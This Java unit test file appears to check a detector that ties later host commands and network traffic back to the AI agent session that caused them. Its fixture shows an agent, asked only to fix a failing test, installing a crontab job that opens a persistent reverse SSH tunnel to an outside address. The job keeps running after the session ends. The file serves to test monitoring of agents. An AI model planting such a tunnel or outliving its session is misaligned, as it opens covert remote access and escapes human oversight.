package dev.offscript.chains.deed;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.chains.Scene;
import dev.offscript.model.ChainActor;
import dev.offscript.model.EventKind;
import dev.offscript.model.State;
import dev.offscript.model.report.Chain;
import dev.offscript.model.report.Step;
import org.junit.jupiter.api.Test;

/** What a session leaves behind runs when the session is long over. */
class LeftoverTest {

  private static final String LINE = "ssh -fN -R 7022:localhost:22 svc@203.0.113.9";

  private static Scene placing() {
    return new Scene()
        .session("s1", 0)
        .at("gpu-07", "", "10.0.3.17")
        .task("Fix the failing test.")
        .runs(10, "toolu_a1", "crontab - ; cron: " + LINE)
        .gets(11, "toolu_a1", "", 0)
        .scene();
  }

  private static Step ran(Chain chain) {
    return chain.steps().stream().filter(s -> s.kind() == EventKind.EXEC).findFirst().orElseThrow();
  }

  @Test
  void namesTheSessionThatPlacedTheLine() {
    Chain chain =
        placing()
            .exec(3, 7200, "gpu-07", LINE)
            .exec(3, 7800, "gpu-07", LINE)
            .flow(4, 7201, 7300, "10.0.3.17:40000", "203.0.113.9:22", "destination.bytes=900")
            .chain();
    assertThat(chain.actor()).isEqualTo(ChainActor.AGENT);
    assertThat(chain.session().id()).isEqualTo("s1");
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
    assertThat(ran(chain).links().get(0).because())
        .containsExactly(
            "same argv",
            "same host gpu-07",
            "left over: crontab, as session s1 wrote it 7190 s before");
    assertThat(ran(chain).evidence()).hasSize(2);
    assertThat(chain.notes()).contains("what was left behind ran 1 more time");
    assertThat(chain.predicates().agentInitiated().because())
        .isEqualTo("a tool call of the agent's own session placed the line that ran it later");
  }

  @Test
  void leavesTheSameLineOfAnotherHost() {
    assertThat(placing().exec(3, 7200, "gpu-08", LINE).chains())
        .extracting(Chain::actor)
        .containsExactlyInAnyOrder(ChainActor.AGENT, ChainActor.UNKNOWN);
  }

  @Test
  void leavesWhatRanBeforeTheLineWasPlaced() {
    assertThat(placing().exec(3, -7200, "gpu-07", LINE).chains())
        .extracting(Chain::actor)
        .containsExactlyInAnyOrder(ChainActor.AGENT, ChainActor.UNKNOWN);
  }

  @Test
  void tellsTrafficThatOnlyTheLineExplains() {
    Chain chain =
        placing()
            .flow(4, 90_000, 90_010, "10.0.3.17:40000", "203.0.113.9:22", "destination.bytes=900")
            .chain();
    assertThat(chain.state()).isEqualTo(State.STAGED);
    assertThat(chain.predicates().coincident().value()).isEmpty();
    assertThat(chain.predicates().coincident().because())
        .isEqualTo(
            "flow seen 89990 s after the command was over: the line that it left behind may have"
                + " run it");
  }
}
